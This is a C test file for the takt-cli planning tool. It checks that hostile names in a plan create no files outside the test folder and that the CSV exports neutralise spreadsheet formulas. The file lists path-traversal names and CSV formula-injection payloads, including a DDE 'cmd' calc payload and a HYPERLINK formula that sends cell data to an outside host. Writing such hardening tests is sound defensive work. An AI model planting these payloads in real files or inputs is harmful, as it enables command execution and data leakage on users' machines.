/* test-hostile-names.c — names in a plan choose no file and run no formula
 *
 * Copyright 2026 The Takt developers
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 *   test-hostile-names [GLib test options] PATH-TO-takt-cli
 *
 * A plan whose name, ids, product and station names and customers look
 * like paths ("../../escape", an absolute path into the test folder, a
 * Windows path) and like spreadsheet formulas ("=HYPERLINK(…)", "+1",
 * "-2", "@SUM(…)", a leading tab or carriage return) is planned with every
 * output takt-cli has.  Then:
 *  - the test folder holds exactly the input and the files named on the
 *    command line, nothing else, and nothing appeared beside it;
 *  - every CSV export reads back as strict RFC 4180, and no text cell
 *    starts with a character a spreadsheet takes as a formula: each
 *    hostile name is there with a leading apostrophe, and the only cells
 *    that start with '-' or '+' are numbers.
 */

#define G_LOG_DOMAIN "test-hostile-names"

#include <glib/gstdio.h>
#include <string.h>

#include "takt-csv.h"
#include "takt-hardening.h"

static char *cli;

/* The names, as JSON string contents.  @DIR@ becomes the test folder. */
static const char *const hostile[] = {
  "=HYPERLINK(\\\"http://example.invalid/?\\\"&A1,\\\"click\\\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\\t=1+1",
  "\\r=1+1",
  "../../escape",
  "@DIR@/absolute-escape",
  "..\\\\..\\\\windows-escape",
};

static char *
hostile_plan (const char *dir)
{
  g_autoptr(GString) s = g_string_new (NULL);

  g_string_append (s,
    "{\n"
    "  \"format\": \"takt-plan\",\n"
    "  \"version\": 1,\n"
    "  \"name\": \"../../escape\",\n"
    "  \"horizon\": { \"start\": \"2026-12-01T00:00\", \"days\": 14 },\n"
    "  \"stations\": [ { \"id\": \"../../escape\", \"name\": \"=1+1\", \"machines\": 2 },\n"
    "                  { \"id\": \"@DIR@/absolute-escape\", \"name\": \"-3\" } ],\n"
    "  \"products\": [\n");
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    g_string_append_printf (s,
      "    { \"id\": \"%s\", \"name\": \"%s\", \"routing\": [ { \"station\": \"../../escape\", "
      "\"cycle_s\": 600 }, { \"station\": \"@DIR@/absolute-escape\", \"cycle_s\": 60 } ] }%s\n",
      hostile[i], hostile[(i + 1) % G_N_ELEMENTS (hostile)],
      i + 1 < G_N_ELEMENTS (hostile) ? "," : "");
  g_string_append (s, "  ],\n  \"orders\": [\n");
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    g_string_append_printf (s,
      "    { \"id\": \"%s\", \"product\": \"%s\", \"quantity\": %u, \"due\": \"2026-12-0%uT12:00\", "
      "\"customer\": \"%s\" }%s\n",
      hostile[(i + 2) % G_N_ELEMENTS (hostile)], hostile[i], 3 + i, 2 + i % 7,
      hostile[(i + 4) % G_N_ELEMENTS (hostile)], i + 1 < G_N_ELEMENTS (hostile) ? "," : "");
  g_string_append (s, "  ]\n}\n");

  g_string_replace (s, "@DIR@", dir, 0);
  return g_string_free (g_steal_pointer (&s), FALSE);
}

/* Every path under @dir, relative to it, sorted. */
static void
list_tree (const char *dir,
           const char *prefix,
           GPtrArray  *out)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  const char *name;

  g_assert_nonnull (d);
  while ((name = g_dir_read_name (d)) != NULL)
    {
      g_autofree char *path = g_build_filename (dir, name, NULL);
      g_autofree char *rel = prefix != NULL ? g_build_filename (prefix, name, NULL) : g_strdup (name);

      g_ptr_array_add (out, g_strdup (rel));
      if (g_file_test (path, G_FILE_TEST_IS_DIR) && !g_file_test (path, G_FILE_TEST_IS_SYMLINK))
        list_tree (path, rel, out);
    }
}

static int
compare_strings (gconstpointer a,
                 gconstpointer b)
{
  return strcmp (*(const char * const *) a, *(const char * const *) b);
}

static gboolean
is_number (const char *cell)
{
  char *end = NULL;

  if (*cell == '\0')
    return FALSE;
  g_ascii_strtod (cell, &end);
  return end != NULL && *end == '\0';
}

static void
check_csv (const char *path,
           GHashTable *seen)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TaktCsvTable) table = NULL;
  g_autofree char *text = NULL;
  gsize len = 0;
  guint cells = 0;

  g_file_get_contents (path, &text, &len, &error);
  g_assert_no_error (error);
  table = takt_csv_read (text, len, ',', TAKT_CSV_READ_STRICT, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (table->records->len, >, 1);

  for (guint r = 0; r < table->records->len; r++)
    {
      const TaktCsvRecord *rec = g_ptr_array_index (table->records, r);

      for (guint f = 0; f < rec->n_fields; f++)
        {
          const char *cell = rec->fields[f];

          cells++;
          if (strchr ("=+-@\t\r", cell[0]) != NULL && cell[0] != '\0')
            {
              if (!is_number (cell))
                g_test_fail_printf ("%s: record %u field %u starts a formula: \"%s\"",
                                    path, r, f, cell);
            }
          if (cell[0] == '\'')
            g_hash_table_add (seen, g_strdup (cell + 1));
        }
    }
  g_test_message ("%s: %u records, %u cells, no formula", path, table->records->len, cells);
}

static void
test_names (void)
{
  g_autofree char *dir = takt_hardening_tmpdir ("takt-names-XXXXXX");
  g_autofree char *work = g_build_filename (dir, "work", NULL);
  g_autofree char *input = g_build_filename (dir, "hostile.takt", NULL);
  g_autofree char *plan = hostile_plan (dir);
  g_autofree char *beside = g_build_filename (dir, "..", "escape", NULL);
  g_autoptr(GHashTable) seen = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
  g_autoptr(GPtrArray) files = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GError) error = NULL;
  const char *argv[] = { cli, "plan", input, "--evaluations", "100", "--out", "out.takt",
                         "--csv", "runs.csv", "--csv-fulfilment", "fulfilment.csv",
                         "--csv-costs", "costs.csv", "--pdf", "report.pdf", NULL };
  const char *expected[] = { "hostile.takt", "work", "work/costs.csv", "work/fulfilment.csv",
                             "work/out.takt", "work/report.pdf", "work/runs.csv" };
  const char *formulas[] = { "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
                             "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                             "=1+1" };
  TaktCliResult r;

  g_assert_cmpint (g_mkdir (work, 0700), ==, 0);
  g_file_set_contents (input, plan, -1, &error);
  g_assert_no_error (error);

  takt_cli_run (argv, work, 120.0, &r);
  g_test_message ("exit %d\n%s%s", r.exit_status, r.out, r.err);
  g_assert_false (r.timed_out);
  g_assert_false (r.signalled);
  g_assert_cmpint (r.exit_status, ==, 0);
  takt_cli_result_clear (&r);

  list_tree (dir, NULL, files);
  g_ptr_array_sort (files, compare_strings);
  for (guint i = 0; i < files->len; i++)
    g_test_message ("written: %s", (const char *) g_ptr_array_index (files, i));
  g_assert_cmpuint (files->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    g_assert_cmpstr (g_ptr_array_index (files, i), ==, expected[i]);
  g_assert_false (g_file_test (beside, G_FILE_TEST_EXISTS));

  {
    const char *csvs[] = { "runs.csv", "fulfilment.csv", "costs.csv" };

    for (guint i = 0; i < G_N_ELEMENTS (csvs); i++)
      {
        g_autofree char *path = g_build_filename (work, csvs[i], NULL);

        check_csv (path, seen);
      }
  }
  /* The hostile names are in the exports, made harmless. */
  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    if (!g_hash_table_contains (seen, formulas[i]))
      g_test_fail_printf ("\"%s\" is not in the exports with a leading apostrophe", formulas[i]);

  takt_hardening_rmtree (dir);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  if (argc < 2)
    {
      g_printerr ("usage: %s [GLib test options] PATH-TO-takt-cli\n", argv[0]);
      return 2;
    }
  cli = g_canonicalize_filename (argv[1], NULL);

  g_test_add_func ("/hostile-names/outputs-and-formulas", test_names);
  return g_test_run ();
}
